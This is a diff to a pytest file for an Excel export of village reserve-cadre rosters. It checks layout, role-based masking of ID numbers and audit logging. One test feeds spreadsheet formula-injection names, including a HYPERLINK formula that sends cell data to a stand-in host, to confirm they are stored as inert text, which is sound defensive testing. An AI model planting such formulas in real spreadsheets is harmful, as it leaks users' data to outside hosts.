@@ -84,7 +84,7 @@ def test_rows_list_who_was_in_the_pool_where_they_were_placed_that_day(cast, poo
     li = rows[1]
     assert li["township"] == "青竹街道" and li["sex"] == "男" and li["birth"] == "1990.01"
     assert li["party_joined"] == "2012.07" and li["education"] == "大学专科" and li["source"] == "村民小组长"
-    assert li["mentors"] == "副镇长 副镇长；周明 村党委书记"
+    assert li["mentors"] == "副镇长；周明 村党委书记"  # the cast mentor is named 副镇长: printed once
     assert rows[0]["age"] == 31  # born 1995-06-30: 31 exactly on ON
     assert li["age"] == 36
     # After the move the person counts in B1, not A2.
@@ -113,17 +113,18 @@ def test_a_date_before_anything_was_recorded_gives_an_empty_roster_with_the_reas
     assert "早于青神县在系统中的第一条记录（2020年3月1日）" in result.explanation
     data = roster_xlsx(result, reveal=False)
     ws = openpyxl.load_workbook(io.BytesIO(data)).active
-    assert ws["A1"].value == "青神县村级后备干部名册"
-    assert "无在库后备干部" in ws["A4"].value
+    assert (ws["A1"].value, ws["A2"].value) == ("附件1", "青神县村级后备干部名册")
+    assert "无在库后备干部" in ws["A5"].value
 
 
 def test_xlsx_has_the_template_title_headers_and_values(cast, pool):
     data = roster_xlsx(build_roster(cast.township_a, ON), reveal=False)
     ws = openpyxl.load_workbook(io.BytesIO(data)).active
-    assert ws["A1"].value == "青竹街道村级后备干部名册"
-    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:N1", "A2:N2"}
-    assert "2026年6月30日" in ws["A2"].value and "共4人" in ws["A2"].value
-    assert [c.value for c in ws[3]] == [
+    assert (ws["A1"].value, ws["A2"].value) == ("附件1", "青竹街道村级后备干部名册")
+    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:N1", "A2:N2", "A3:N3"}
+    assert "2026年6月30日" in ws["A3"].value and "共4人" in ws["A3"].value
+    assert "填报单位：中共青竹街道工作委员会" in ws["A3"].value
+    assert [c.value for c in ws[4]] == [
         "序号",
         "乡镇",
         "村（社区）",
@@ -139,32 +140,32 @@ def test_xlsx_has_the_template_title_headers_and_values(cast, pool):
         "结对干部姓名及职务",
         "备注",
     ]
-    li = [c.value for c in ws[5]]
+    li = [c.value for c in ws[6]]
     assert li[:10] == [2, "青竹街道", "兰沟村", "李兰", "男", "1990.01", "2012.07", 36, "大学专科", "村民小组长"]
     assert li[10] == pool["a1"].person.id_number[:6] + "********" + pool["a1"].person.id_number[-4:]
-    assert li[12] == "副镇长 副镇长；周明 村党委书记"
-    assert ws.print_title_rows == "$3:$3"
+    assert li[12] == "副镇长；周明 村党委书记"
+    assert ws.print_title_rows == "$4:$4"
     assert ws.page_setup.orientation == "landscape"
-    assert "青竹街道" in ws.oddFooter.left.text and "&P" in ws.oddFooter.right.text
+    assert "青竹街道" in ws.oddFooter.left.text and ws.oddFooter.center.text == "第 &P 页 共 &N 页"
 
 
 def test_xlsx_reveals_full_id_numbers_only_when_asked(cast, pool):
     ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=True))).active
-    assert ws["K4"].value == pool["a1"].person.id_number
+    assert ws["K5"].value == pool["a1"].person.id_number
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-2"])
 def test_formula_like_names_are_stored_as_text(cast, name):
     make_record(make_person(cast.village_a1, name=name))
     ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=False))).active
-    cell = ws["D4"]
+    cell = ws["D5"]
     assert cell.value == name and cell.data_type == "s"
 
 
 def test_control_characters_excel_rejects_are_dropped(cast):
     make_record(make_person(cast.village_a1, name="张\x0b三"))
     ws = openpyxl.load_workbook(io.BytesIO(roster_xlsx(build_roster(cast.village_a1, ON), reveal=False))).active
-    assert ws["D4"].value == "张三"
+    assert ws["D5"].value == "张三"
 
 
 @needs_poppler
@@ -265,8 +266,8 @@ def test_village_roster_downloads_at_once_and_is_audited(client, cast, pool):
     assert response.status_code == 200
     assert "attachment" in response["Content-Disposition"]
     ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    assert ws["A1"].value == "兰沟村村级后备干部名册" and ws["D4"].value == "李兰"
-    assert "*" in ws["K4"].value  # a village secretary may not see full ID numbers
+    assert ws["A2"].value == "兰沟村村级后备干部名册" and ws["D5"].value == "李兰"
+    assert "*" in ws["K5"].value  # a village secretary may not see full ID numbers
     entry = AuditLog.objects.get(action="report.roster")
     assert entry.actor == cast.village_secretary and entry.changes["people"] == 1
     assert entry.changes["full_id"] is False
@@ -287,7 +288,7 @@ def test_township_roster_runs_in_the_background_and_waits_in_my_exports(
     assert job.title in listing and reverse("export_download", args=[job.pk]) in listing
     download = client.get(reverse("export_download", args=[job.pk]))
     ws = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
-    assert ws["K5"].value == pool["a1"].person.id_number  # township admins may see full numbers
+    assert ws["K6"].value == pool["a1"].person.id_number  # township admins may see full numbers
     entry = AuditLog.objects.get(action="report.export")
     assert entry.actor == cast.township_a_admin and entry.changes["people"] == 4
 
